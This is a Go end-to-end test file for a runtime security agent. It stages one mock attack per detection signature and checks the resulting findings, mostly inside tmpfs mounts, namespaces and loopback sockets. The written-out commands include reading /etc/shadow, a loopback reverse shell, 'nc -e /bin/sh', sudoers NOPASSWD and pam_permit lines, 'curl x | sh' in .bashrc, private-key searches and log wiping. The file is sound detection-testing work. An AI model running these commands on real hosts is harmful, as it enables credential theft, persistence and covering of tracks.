package e2e

import (
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	"github.com/seed-428f5ad7/tracee/types/trace"
	"golang.org/x/sys/unix"
)

// liveCase performs one attack and names the finding it must raise.
type liveCase struct {
	event string // the signature's event name
	how   string // which variant of the attack, when a signature has several
	// skip, when set, says why the action cannot be performed or seen on this machine.
	skip string
	// act performs the attack and returns the pid of the process tree that performed it.
	act func(t *testing.T, env *liveEnv) int
	// want are finding arguments that must be present with these values ("" = any value).
	want map[string]interface{}
	// check inspects the finding further.
	check func(t *testing.T, f *trace.Event)
}

// liveEnv is what the actions share: a temp dir and a TCP listener that accepts and waits.
type liveEnv struct {
	agent  *agent
	dir    string
	tcp    string
	listen net.Listener
}

func newLiveEnv(t *testing.T, a *agent) *liveEnv {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			go func() { buf := make([]byte, 64); _, _ = c.Read(buf); c.Close() }()
		}
	}()
	return &liveEnv{agent: a, dir: t.TempDir(), tcp: ln.Addr().String(), listen: ln}
}

const (
	oRdonly = "0"
	oWronly = "1"
	oRdwr   = "2"
)

// liveCases lists one real attack per signature.
func liveCases() []liveCase {
	return []liveCase{
		{event: "stdio_over_socket", act: func(t *testing.T, e *liveEnv) int { return helper(t, "reverse-shell", e.tcp) },
			want: map[string]interface{}{"IP address": "127.0.0.1", "File descriptor": 0}},
		{event: "anti_debugging", act: func(t *testing.T, e *liveEnv) int { return helper(t, "ptrace-traceme") },
			want: map[string]interface{}{"request": "PTRACE_TRACEME"}},
		{event: "ptrace_code_injection", act: func(t *testing.T, e *liveEnv) int { return helper(t, "ptrace-poke") },
			want: map[string]interface{}{"ptrace request": "PTRACE_POKEDATA"}},
		{event: "dynamic_code_loading", how: "library code made writable (in-process hook)", act: func(t *testing.T, e *liveEnv) int { return helper(t, "patch-text") },
			want: map[string]interface{}{"alert": trace.ProtAlertMprotectXToWX.String()}, check: severityAtLeast(2)},
		{event: "dynamic_code_loading", how: "anonymous W+X memory, as JITs map, is low severity", act: func(t *testing.T, e *liveEnv) int { return helper(t, "mmap-wx") },
			want: map[string]interface{}{"alert": trace.ProtAlertMmapWX.String()}, check: severityBelow(2)},
		{event: "fileless_execution", act: func(t *testing.T, e *liveEnv) int { return helper(t, "memfd-exec") },
			check: func(t *testing.T, f *trace.Event) {
				if p, _ := findingArg(f, "pathname").(string); !strings.Contains(p, "memfd:e2e-fileless") {
					t.Errorf("pathname %q, want the memfd", p)
				}
			}},
		{event: "cgroup_notify_on_release", act: func(t *testing.T, e *liveEnv) int {
			return helper(t, "open", mkfile(t, e.dir, "cgroup/notify_on_release"), oWronly)
		}},
		{event: "ld_preload", how: "write /etc/ld.so.preload", act: func(t *testing.T, e *liveEnv) int {
			return privateSh(t, "mount -t tmpfs e2e /etc && echo /tmp/evil.so > /etc/ld.so.preload")
		}, want: map[string]interface{}{"pathname": "/etc/ld.so.preload"}},
		{event: "k8s_service_account_token", act: func(t *testing.T, e *liveEnv) int {
			return sh(t, "cat "+mkfile(t, e.dir, "run/secrets/kubernetes.io/serviceaccount/token")+" >/dev/null")
		}},
		{event: "aslr_inspection", act: func(t *testing.T, e *liveEnv) int { return sh(t, "cat /proc/sys/kernel/randomize_va_space >/dev/null") }},
		{event: "cgroup_release_agent", act: func(t *testing.T, e *liveEnv) int {
			return helper(t, "open", mkfile(t, e.dir, "cgroup/release_agent"), oWronly)
		}},
		// Opened for writing and closed without writing: the setting is untouched.
		{event: "core_pattern_modification", act: func(t *testing.T, e *liveEnv) int {
			return helper(t, "open", "/proc/sys/kernel/core_pattern", oWronly)
		}},
		{event: "default_loader_mod", act: func(t *testing.T, e *liveEnv) int {
			return privateSh(t, "mount -t tmpfs e2e /usr/lib64 && echo x > /usr/lib64/ld-linux-x86-64.so.2")
		}, want: map[string]interface{}{"pathname": "/usr/lib64/ld-linux-x86-64.so.2"}},
		{event: "ld_preload", how: "LD_PRELOAD in the environment", act: func(t *testing.T, e *liveEnv) int {
			pid := sh(t, "LD_PRELOAD=/nonexistent-e2e.so exec /bin/true 2>/dev/null")
			requireEnv(t, e, pid)
			return pid
		}, want: map[string]interface{}{"LD_PRELOAD": "/nonexistent-e2e.so"}},
		{event: "k8s_api_connection", act: func(t *testing.T, e *liveEnv) int {
			host, port, _ := net.SplitHostPort(e.tcp)
			cmd := helperCmd("wait-dial-tcp", e.tcp)
			cmd.Env = append(cmd.Env, "KUBERNETES_SERVICE_HOST="+host, "KUBERNETES_SERVICE_PORT="+port)
			pid, _ := inFakeContainer(t, cmd)
			requireEnv(t, e, pid)
			return pid
		}, want: map[string]interface{}{"ip": "127.0.0.1"}, check: inContainer},
		{event: "disk_mount", act: func(t *testing.T, e *liveEnv) int {
			pid, _ := inFakeContainer(t, helperCmd("wait-mount-bind", "/dev/null", mkfile(t, e.dir, "mnt/target")))
			return pid
		}, want: map[string]interface{}{"mounted device": "/dev/null"}, check: inContainer},
		{event: "hidden_file_created", act: func(t *testing.T, e *liveEnv) int {
			hidden := filepath.Join(e.dir, ".e2e-hidden")
			return sh(t, "cp /bin/true "+hidden+" && "+hidden)
		}},
		{event: "illegitimate_shell", act: func(t *testing.T, e *liveEnv) int {
			nginx := filepath.Join(e.dir, "nginx")
			return sh(t, "cp /bin/sh "+nginx+" && "+nginx+" -c '/bin/sh -c true; true'")
		}, want: map[string]interface{}{"web server": "nginx"}},
		{event: "kernel_module_loading", skip: skipNoModules()},
		{event: "k8s_cert_theft", act: func(t *testing.T, e *liveEnv) int {
			return privateSh(t, "mount -t tmpfs e2e /etc && mkdir -p /etc/kubernetes/pki && echo k > /etc/kubernetes/pki/ca.key && cat /etc/kubernetes/pki/ca.key >/dev/null")
		}, want: map[string]interface{}{"pathname": "/etc/kubernetes/pki/ca.key"}},
		{event: "docker_abuse", act: func(t *testing.T, e *liveEnv) int {
			sock := filepath.Join(e.dir, "docker.sock")
			ln, err := net.Listen("unix", sock)
			if err != nil {
				t.Fatal(err)
			}
			defer ln.Close()
			pid, _ := inFakeContainer(t, helperCmd("wait-dial-unix", sock))
			return pid
		}, check: inContainer},
		{event: "proc_kcore_read", act: func(t *testing.T, e *liveEnv) int {
			if exists("/proc/kcore") {
				return helper(t, "open", "/proc/kcore", oRdonly)
			}
			// This kernel has no /proc/kcore: stage the path on a tmpfs over /proc in a private mount namespace.
			return privateSh(t, "mount -t tmpfs e2e /proc && echo x > /proc/kcore && cat /proc/kcore >/dev/null")
		}},
		{event: "dropped_executable", act: func(t *testing.T, e *liveEnv) int {
			// dd writes with write(2), which magic_write sees; cp copies with copy_file_range, which it
			// does not (drop_and_execute catches that case by inode).
			return inContainerSh(t, "dd if=/bin/true of="+e.dir+"/dropped-elf bs=64k 2>/dev/null")
		}, check: inContainer},
		{event: "proc_mem_access", act: func(t *testing.T, e *liveEnv) int { return helper(t, "open", "/proc/self/mem", oRdonly) }},
		{event: "proc_mem_code_injection", act: func(t *testing.T, e *liveEnv) int { return helper(t, "open", "/proc/self/mem", oRdwr) }},
		{event: "process_vm_write_inject", act: func(t *testing.T, e *liveEnv) int { return helper(t, "vm-write") }},
		{event: "rcd_modification", act: func(t *testing.T, e *liveEnv) int {
			return privateSh(t, "mount -t tmpfs e2e /etc && echo 'exit 0' > /etc/rc.local")
		}, want: map[string]interface{}{"pathname": "/etc/rc.local"}},
		{event: "scheduled_task_mod", act: func(t *testing.T, e *liveEnv) int {
			return privateSh(t, "mount -t tmpfs e2e /etc && echo '* * * * * root true' > /etc/crontab")
		}, want: map[string]interface{}{"pathname": "/etc/crontab"}},
		{event: "sudoers_modification", act: func(t *testing.T, e *liveEnv) int {
			return privateSh(t, "mount -t tmpfs e2e /etc && echo 'ALL ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers")
		}, want: map[string]interface{}{"pathname": "/etc/sudoers"}},
		{event: "sched_debug_recon", act: func(t *testing.T, e *liveEnv) int {
			return privateSh(t, "mount -t debugfs e2e /sys/kernel/debug && cat /sys/kernel/debug/sched/debug >/dev/null")
		}, want: map[string]interface{}{"pathname": "/sys/kernel/debug/sched/debug"}},
		{event: "system_request_key_mod", act: func(t *testing.T, e *liveEnv) int {
			if exists("/proc/sys/kernel/sysrq") {
				return helper(t, "open", "/proc/sys/kernel/sysrq", oWronly)
			}
			// This kernel has no SysRq: stage the path on a tmpfs over /proc/sys in a private mount namespace.
			return privateSh(t, "mount -t tmpfs e2e /proc/sys && mkdir /proc/sys/kernel && echo 1 > /proc/sys/kernel/sysrq")
		}, want: map[string]interface{}{"pathname": "/proc/sys/kernel/sysrq"}},
		{event: "credential_file_read", act: func(t *testing.T, e *liveEnv) int { return sh(t, "cat /etc/shadow >/dev/null") },
			want: map[string]interface{}{"pathname": "/etc/shadow"}},
		{event: "credential_file_read", how: "cat copied to a file named sudo", act: func(t *testing.T, e *liveEnv) int {
			return sh(t, "cp /bin/cat "+e.dir+"/sudo && "+e.dir+"/sudo /etc/shadow >/dev/null")
		}, want: map[string]interface{}{"pathname": "/etc/shadow"}},
		{event: "credential_file_read", how: "through a hardlink, by relative path", act: func(t *testing.T, e *liveEnv) int {
			dir := sameDevice(t, "/etc/shadow", "/var/tmp", "/root", "/tmp")
			return sh(t, "cd "+dir+" && ln /etc/shadow .e2e-innocent && cat ./.e2e-innocent >/dev/null; rm -f .e2e-innocent")
		}, want: map[string]interface{}{"link_to": "/etc/shadow"}},
		{event: "credential_file_read", how: "through /proc/self/fd", act: func(t *testing.T, e *liveEnv) int {
			return sh(t, "exec 3</etc/gshadow; cat /proc/self/fd/3 >/dev/null")
		}},
		{event: "ssh_authorized_keys_mod", act: func(t *testing.T, e *liveEnv) int {
			keys := filepath.Join(e.dir, "home", ".ssh", "authorized_keys")
			return sh(t, "mkdir -p "+filepath.Dir(keys)+" && echo 'ssh-ed25519 AAAA e2e' >> "+keys)
		}},
		{event: "pam_modification", act: func(t *testing.T, e *liveEnv) int {
			return privateSh(t, "mount -t tmpfs e2e /etc && mkdir /etc/pam.d && echo 'auth sufficient pam_permit.so' > /etc/pam.d/common-auth")
		}, want: map[string]interface{}{"pathname": "/etc/pam.d/common-auth"}},
		{event: "systemd_unit_mod", act: func(t *testing.T, e *liveEnv) int {
			return privateSh(t, "mount -t tmpfs e2e /etc && mkdir -p /etc/systemd/system && echo '[Service]' > /etc/systemd/system/e2e.service")
		}, want: map[string]interface{}{"pathname": "/etc/systemd/system/e2e.service"}},
		{event: "reverse_shell", act: func(t *testing.T, e *liveEnv) int { return helper(t, "reverse-shell", e.tcp) },
			want: map[string]interface{}{"parent": "e2e.test"}},
		{event: "host_namespace_entry", act: func(t *testing.T, e *liveEnv) int {
			// In a private PID namespace, PID 1 is the shell itself: nsenter goes through the same
			// /proc/1/ns open and setns as against the host's init, without leaving the sandbox.
			return run(t, exec.Command("unshare", "--pid", "--fork", "--mount-proc", "/bin/sh", "-c", "nsenter --target 1 --mount -- true"))
		}},
		{event: "bpf_program_load", act: func(t *testing.T, e *liveEnv) int { return helper(t, "bpf-load") },
			want: map[string]interface{}{"command": "BPF_PROG_LOAD"}},
		{event: "setuid_binary_created", act: func(t *testing.T, e *liveEnv) int {
			bin := filepath.Join(e.dir, "suid-true")
			return sh(t, "cp /bin/true "+bin+" && chmod 4755 "+bin)
		}, want: map[string]interface{}{"mode": "04755"}},
		{event: "setuid_binary_created", how: "chmod g+s on a non-executable file", act: func(t *testing.T, e *liveEnv) int {
			f := mkfile(t, e.dir, "sgid-data")
			return sh(t, "chmod g+s "+f)
		}, want: map[string]interface{}{"bits": "setgid"}},
		// /var/log is a tmpfs in a private mount namespace: the host's logs are untouched.
		{event: "log_tampering", how: ": > FILE", act: func(t *testing.T, e *liveEnv) int {
			return privateSh(t, "mount -t tmpfs e2e /var/log && echo line >> /var/log/auth.log && : > /var/log/auth.log")
		}, want: map[string]interface{}{"pathname": "/var/log/auth.log", "action": "truncated"}},
		{event: "log_tampering", how: "truncate -s0 FILE", act: func(t *testing.T, e *liveEnv) int {
			return privateSh(t, "mount -t tmpfs e2e /var/log && echo line >> /var/log/syslog && truncate -s0 /var/log/syslog")
		}, want: map[string]interface{}{"pathname": "/var/log/syslog", "action": "truncated"}},
		{event: "log_tampering", how: "rm FILE", act: func(t *testing.T, e *liveEnv) int {
			return privateSh(t, "mount -t tmpfs e2e /var/log && echo line >> /var/log/auth.log && rm /var/log/auth.log")
		}, want: map[string]interface{}{"pathname": "/var/log/auth.log", "action": "deleted"}},
	}
}

// inContainerSh runs a script in a staged container and returns the pid of its helper.
func inContainerSh(t *testing.T, script string) int {
	t.Helper()
	pid, _ := inFakeContainer(t, helperCmd("wait-sh", script))
	return pid
}

// asNobody runs a helper action as uid/gid 65534, from a copy of the test binary that user can
// execute (go test builds it in a directory only root may enter).
func asNobody(t *testing.T, action string, args ...string) int {
	t.Helper()
	dir, err := os.MkdirTemp("", "e2e-nobody")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	bin := filepath.Join(dir, "e2e.test")
	if err := os.Chmod(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	if out, err := exec.Command("cp", os.Args[0], bin).CombinedOutput(); err != nil {
		t.Fatalf("copy the test binary: %v: %s", err, out)
	}
	cmd := helperCmd(action, args...)
	cmd.Path, cmd.Args[0] = bin, bin
	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534}}
	return run(t, cmd)
}

// parityCases are the live attacks of the Falco-parity signatures (EXT-010 onwards).
func parityCases() []liveCase {
	return []liveCase{
		{event: "exec_from_temp_dir", act: func(t *testing.T, e *liveEnv) int {
			return sh(t, "f=/dev/shm/e2e-$$ && cp /bin/true $f && $f; rm -f $f")
		}},
		{event: "exec_from_temp_dir", how: "relative path from /tmp in a container", act: func(t *testing.T, e *liveEnv) int {
			return inContainerSh(t, "cd "+e.dir+" && cp /bin/true ./tmp-run && ./tmp-run")
		}, check: inContainer},
		{event: "drop_and_execute", how: "copied, renamed and run in a container", act: func(t *testing.T, e *liveEnv) int {
			return inContainerSh(t, "cd "+e.dir+" && cp /bin/true dropped && mv dropped kworker && ./kworker")
		}, check: inContainer},
		{event: "netcat_remote_code_execution", how: "renamed copy started as nc", act: func(t *testing.T, e *liveEnv) int {
			return sh(t, "cp /bin/true "+e.dir+"/kworker && (exec -a nc "+e.dir+"/kworker -e /bin/sh 127.0.0.1 1) 2>/dev/null || bash -c 'exec -a nc "+e.dir+"/kworker -e /bin/sh 127.0.0.1 1'")
		}},
		{event: "private_key_search", how: "grep -r for key content", act: func(t *testing.T, e *liveEnv) int {
			return sh(t, "grep -r 'BEGIN OPENSSH PRIVATE' "+e.dir+" >/dev/null; true")
		}},
		{event: "private_key_search", how: "find by name", act: func(t *testing.T, e *liveEnv) int {
			return sh(t, "find "+e.dir+" -name id_rsa >/dev/null")
		}},
		{event: "private_key_search", how: "renamed grep searching by content", act: func(t *testing.T, e *liveEnv) int {
			return sh(t, "cp /bin/grep "+e.dir+"/lookup && "+e.dir+"/lookup -rl 'BEGIN RSA PRIVATE' "+e.dir+" >/dev/null; true")
		}},
		{event: "private_key_search", how: "AWS credentials", act: func(t *testing.T, e *liveEnv) int {
			return sh(t, "grep -rl aws_secret_access_key "+e.dir+" >/dev/null; true")
		}},
		{event: "data_destruction", act: func(t *testing.T, e *liveEnv) int { return sh(t, "shred -u "+mkfile(t, e.dir, "shred-me")) }},
		{event: "debugfs_in_container", act: func(t *testing.T, e *liveEnv) int {
			return inContainerSh(t, "cp /bin/true "+e.dir+"/debugfs && "+e.dir+"/debugfs -R stats /dev/null")
		}, check: inContainer},
		{event: "system_user_interactive", act: func(t *testing.T, e *liveEnv) int {
			return sh(t, "script -qec 'setpriv --reuid=1 --regid=1 --clear-groups /bin/sh -c true' /dev/null </dev/null >/dev/null")
		}, want: map[string]interface{}{"uid": 1}},
		{event: "terminal_shell_in_container", act: func(t *testing.T, e *liveEnv) int {
			return inContainerSh(t, "script -qec '/bin/sh -c true' /dev/null </dev/null >/dev/null")
		}, check: inContainer},
		{event: "db_spawned_process", act: func(t *testing.T, e *liveEnv) int {
			db := filepath.Join(e.dir, "mysqld")
			return sh(t, "cp /bin/sh "+db+" && "+db+" -c '/bin/true; true'")
		}, want: map[string]interface{}{"database": "mysqld"}},
		{event: "user_management_tool", act: func(t *testing.T, e *liveEnv) int { return sh(t, "useradd --help >/dev/null; true") }},
		{event: "account_database_write", act: func(t *testing.T, e *liveEnv) int {
			return privateSh(t, "mount -t tmpfs e2e /etc && echo 'e2e:x:0:0::/:/bin/sh' >> /etc/passwd")
		}, want: map[string]interface{}{"pathname": "/etc/passwd"}},
		{event: "network_tool_launched", how: "on the host", act: func(t *testing.T, e *liveEnv) int {
			return sh(t, "cp /bin/true "+e.dir+"/nmap && "+e.dir+"/nmap -sS 127.0.0.1")
		}, check: severityBelow(2)},
		{event: "network_tool_launched", how: "in a container", act: func(t *testing.T, e *liveEnv) int {
			return inContainerSh(t, "cp /bin/true "+e.dir+"/tcpdump && "+e.dir+"/tcpdump -i any")
		}, check: severityAtLeast(2)},
		{event: "remote_file_copy_in_container", act: func(t *testing.T, e *liveEnv) int {
			return inContainerSh(t, "curl -s -m 1 file:///etc/hostname >/dev/null")
		}, want: map[string]interface{}{"direction": "ingress"}, check: inContainer},
		{event: "package_management_in_container", act: func(t *testing.T, e *liveEnv) int {
			return inContainerSh(t, "dpkg --version >/dev/null")
		}, check: inContainer},
		{event: "http_proxy_env", act: func(t *testing.T, e *liveEnv) int {
			return sh(t, "HTTP_PROXY=http://127.0.0.1:9 /bin/true")
		}, want: map[string]interface{}{"variable": "HTTP_PROXY"}},
		{event: "glibc_tunables_env", act: func(t *testing.T, e *liveEnv) int {
			return sh(t, "GLIBC_TUNABLES=glibc.malloc.mxfast=0 /bin/true")
		}},
		{event: "archive_to_stdout_in_container", act: func(t *testing.T, e *liveEnv) int {
			return inContainerSh(t, "tar cf - /etc/hostname 2>/dev/null >/dev/null")
		}, check: inContainer},
		{event: "directory_traversal_read", act: func(t *testing.T, e *liveEnv) int {
			return sh(t, "cd "+e.dir+" && cat ../../../../../../../etc/hostname >/dev/null")
		}, want: map[string]interface{}{"pathname": "/etc/hostname"}},
		{event: "ssh_information_read", act: func(t *testing.T, e *liveEnv) int {
			return sh(t, "cat "+mkfile(t, e.dir, "home/.ssh/known_hosts")+" >/dev/null")
		}},
		{event: "shell_config_modification", act: func(t *testing.T, e *liveEnv) int {
			return sh(t, "echo 'curl x | sh' >> "+mkfile(t, e.dir, "home/.bashrc"))
		}},
		{event: "file_created_below_dev", act: func(t *testing.T, e *liveEnv) int {
			return sh(t, "echo x > /dev/.e2e-hidden; rm -f /dev/.e2e-hidden")
		}, want: map[string]interface{}{"pathname": "/dev/.e2e-hidden"}},
		{event: "proc_environ_read", how: "in a container", act: func(t *testing.T, e *liveEnv) int {
			return inContainerSh(t, "cat /proc/self/environ >/dev/null")
		}, check: severityAtLeast(2)},
		{event: "cloud_credentials_read", act: func(t *testing.T, e *liveEnv) int {
			return sh(t, "cat "+mkfile(t, e.dir, "home/.aws/credentials")+" >/dev/null")
		}},
		{event: "backdoored_xz_library", act: func(t *testing.T, e *liveEnv) int {
			return helper(t, "open", mkfile(t, e.dir, "lib/liblzma.so.5.6.1"), oRdonly)
		}},
		{event: "cloud_metadata_access", act: func(t *testing.T, e *liveEnv) int {
			pid, _ := inFakeContainer(t, helperCmd("wait-dial-quick", "169.254.169.254:80"))
			return pid
		}, want: map[string]interface{}{"ip": "169.254.169.254"}, check: inContainer},
		{event: "ssh_nonstandard_port", skip: skipWithout("ssh"), act: func(t *testing.T, e *liveEnv) int {
			_, port, _ := net.SplitHostPort(e.tcp)
			return sh(t, "ssh -o BatchMode=yes -o ConnectTimeout=2 -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -p "+port+" e2e@127.0.0.1 true 2>/dev/null; true")
		}},
		{event: "system_proc_network_activity", skip: skipWithout("bash"), act: func(t *testing.T, e *liveEnv) int {
			host, port, _ := net.SplitHostPort(e.tcp)
			return run(t, exec.Command("bash", "-c", "exec 3<>/dev/tcp/"+host+"/"+port+"; exec 3>&-"))
		}, want: map[string]interface{}{"program": "bash"}},
		{event: "unexpected_udp_traffic", act: func(t *testing.T, e *liveEnv) int { return helper(t, "udp-connect", "127.0.0.1:9999") },
			want: map[string]interface{}{"port": "9999"}},
		{event: "packet_socket_in_container", act: func(t *testing.T, e *liveEnv) int {
			pid, _ := inFakeContainer(t, helperCmd("wait-packet-socket"))
			return pid
		}, check: inContainer},
		{event: "symlink_over_sensitive_file", act: func(t *testing.T, e *liveEnv) int {
			return sh(t, "cd "+e.dir+" && ln -s ../../../../../../etc/shadow s")
		}, want: map[string]interface{}{"target": "/etc/shadow"}},
		{event: "hardlink_over_sensitive_file", how: "relative path from /etc", act: func(t *testing.T, e *liveEnv) int {
			return sh(t, "cd /etc && ln shadow "+e.dir+"/h 2>/dev/null; true")
		}},
		{event: "namespace_change", how: "unshare in a container", act: func(t *testing.T, e *liveEnv) int {
			return inContainerSh(t, "unshare -U true")
		}, want: map[string]interface{}{"syscall": "unshare"}, check: inContainer},
		{event: "namespace_change", how: "setns on the host", act: func(t *testing.T, e *liveEnv) int {
			return sh(t, "nsenter -t $$ -n true")
		}, want: map[string]interface{}{"syscall": "setns"}, check: severityBelow(2)},
		{event: "shell_history_tampering", how: "truncated", act: func(t *testing.T, e *liveEnv) int {
			return sh(t, "cat /dev/null > "+mkfile(t, e.dir, "h1/.bash_history"))
		}},
		{event: "shell_history_tampering", how: "deleted by relative path", act: func(t *testing.T, e *liveEnv) int {
			mkfile(t, e.dir, "h2/.bash_history")
			return sh(t, "cd "+e.dir+"/h2 && rm .bash_history")
		}, want: map[string]interface{}{"action": "deleted"}},
		{event: "shell_history_tampering", how: "replaced by a symlink to /dev/null", act: func(t *testing.T, e *liveEnv) int {
			return sh(t, "ln -sf /dev/null "+mkfile(t, e.dir, "h3/.zsh_history"))
		}},
		{event: "exec_empty_argv", how: "a copy of true run with argc 0, as PwnKit runs pkexec", act: func(t *testing.T, e *liveEnv) int {
			bin := filepath.Join(e.dir, "pkexec-like")
			if err := exec.Command("cp", "/bin/true", bin).Run(); err != nil {
				t.Fatal(err)
			}
			return helper(t, "exec-empty-argv", bin)
		}},
		{event: "userfaultfd_use", how: "by an unprivileged user", act: func(t *testing.T, e *liveEnv) int { return asNobody(t, "userfaultfd") },
			check: severityAtLeast(2)},
		{event: "crypto_miner", how: "renamed miner with a pool URL", act: func(t *testing.T, e *liveEnv) int {
			return sh(t, "cp /bin/true "+e.dir+"/kworker && "+e.dir+"/kworker -o stratum+tcp://127.0.0.1:3333 -u wallet")
		}},
		{event: "binary_dir_write", act: func(t *testing.T, e *liveEnv) int {
			return privateSh(t, "mount -t tmpfs e2e /usr/local/bin && cp /bin/true /usr/local/bin/e2e-planted")
		}, want: map[string]interface{}{"pathname": "/usr/local/bin/e2e-planted"}},
		{event: "package_database_write", act: func(t *testing.T, e *liveEnv) int {
			return privateSh(t, "mount -t tmpfs e2e /var/lib/dpkg && echo 'Package: x' > /var/lib/dpkg/status")
		}, want: map[string]interface{}{"pathname": "/var/lib/dpkg/status"}},
		{event: "hidden_path_created", how: "hidden dir in /tmp", act: func(t *testing.T, e *liveEnv) int {
			return sh(t, "mkdir /tmp/.e2e-stage-$$ && rmdir /tmp/.e2e-stage-$$")
		}, check: severityBelow(2)},
		{event: "hidden_path_created", how: "hidden file in /etc", act: func(t *testing.T, e *liveEnv) int {
			return privateSh(t, "mount -t tmpfs e2e /etc && echo x > /etc/.e2e-hidden")
		}, check: severityAtLeast(2)},
		{event: "interpreter_one_liner_connect", skip: skipWithout("perl"), act: func(t *testing.T, e *liveEnv) int {
			host, port, _ := net.SplitHostPort(e.tcp)
			return run(t, exec.Command("perl", "-MIO::Socket::INET", "-e", "IO::Socket::INET->new(PeerAddr => '"+host+"', PeerPort => "+port+") or die"))
		}, want: map[string]interface{}{"interpreter": "perl"}},
		{event: "non_root_setuid", act: func(t *testing.T, e *liveEnv) int { return asNobody(t, "setuid-root") },
			want: map[string]interface{}{"target_uid": 0}},
	}
}

func skipWithout(tool string) string {
	if _, err := exec.LookPath(tool); err != nil {
		return tool + " is not installed"
	}
	return ""
}

// TestLive_each_signature_detects_a_real_attack performs every attack once with all signatures on.
func TestLive_each_signature_detects_a_real_attack(t *testing.T) {
	a := startAgent(t)
	env := newLiveEnv(t, a)
	for _, tc := range append(liveCases(), parityCases()...) {
		name := tc.event
		if tc.how != "" {
			name += "/" + tc.how
		}
		t.Run(name, func(t *testing.T) {
			if tc.skip != "" {
				t.Skip(tc.skip)
			}
			root := tc.act(t, env)
			f := a.waitFinding(t, tc.event, root)
			if f.Metadata == nil || f.Metadata.Properties["signatureID"] == nil {
				t.Fatalf("finding without signature metadata: %+v", f.Metadata)
			}
			for k, want := range tc.want {
				if got := findingArg(f, k); want != "" && fmt.Sprint(got) != fmt.Sprint(want) {
					t.Errorf("finding %s = %v, want %v", k, got, want)
				}
			}
			if findingArg(f, "detectedFrom") == nil {
				t.Error("finding has no detectedFrom")
			}
			if tc.check != nil {
				tc.check(t, f)
			}
			t.Logf("%s: %s", f.Metadata.Properties["signatureID"], describe(f))
		})
	}
}

func severityAtLeast(n int) func(*testing.T, *trace.Event) {
	return func(t *testing.T, f *trace.Event) {
		if s := severity(f); s < n {
			t.Errorf("severity %d, want >= %d", s, n)
		}
	}
}

func severityBelow(n int) func(*testing.T, *trace.Event) {
	return func(t *testing.T, f *trace.Event) {
		if s := severity(f); s >= n {
			t.Errorf("severity %d, want < %d", s, n)
		}
	}
}

// sameDevice returns the first of dirs on the device of file (a hardlink cannot cross devices).
func sameDevice(t *testing.T, file string, dirs ...string) string {
	t.Helper()
	var want unix.Stat_t
	if err := unix.Stat(file, &want); err != nil {
		t.Skipf("%s: %v", file, err)
	}
	for _, d := range dirs {
		var st unix.Stat_t
		if unix.Stat(d, &st) == nil && st.Dev == want.Dev {
			return d
		}
	}
	t.Skipf("no directory on the device of %s among %v", file, dirs)
	return ""
}

func inContainer(t *testing.T, f *trace.Event) {
	t.Helper()
	if f.Container.ID == "" || !f.ContextFlags.ContainerStarted {
		t.Errorf("finding not attributed to the staged container: %+v", f.Container)
	}
}

// mkfile creates dir/rel (and its parents) and returns its path.
func mkfile(t *testing.T, dir, rel string) string {
	t.Helper()
	p := filepath.Join(dir, rel)
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte("e2e\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	return p
}

func skipNoModules() string {
	if _, err := os.Stat("/proc/modules"); err != nil {
		return "the kernel has no loadable-module support (no /proc/modules, no init_module/finit_module)"
	}
	return "loading a real kernel module is not done by tests; the signature is covered by unit tests"
}

func exists(path string) bool {
	_, err := os.Stat(path)
	return err == nil
}

// requireEnv skips when the live source did not capture the environment of pid's exec.
func requireEnv(t *testing.T, e *liveEnv, pid int) {
	t.Helper()
	e.agent.settle()
	e.agent.mu.Lock()
	ev := e.agent.execs[pid]
	e.agent.mu.Unlock()
	if ev != nil {
		if env, _ := findingArg(ev, "env").([]string); len(env) > 0 {
			return
		}
	}
	t.Skip("needs the environment of exec events, which the live source sends empty")
}
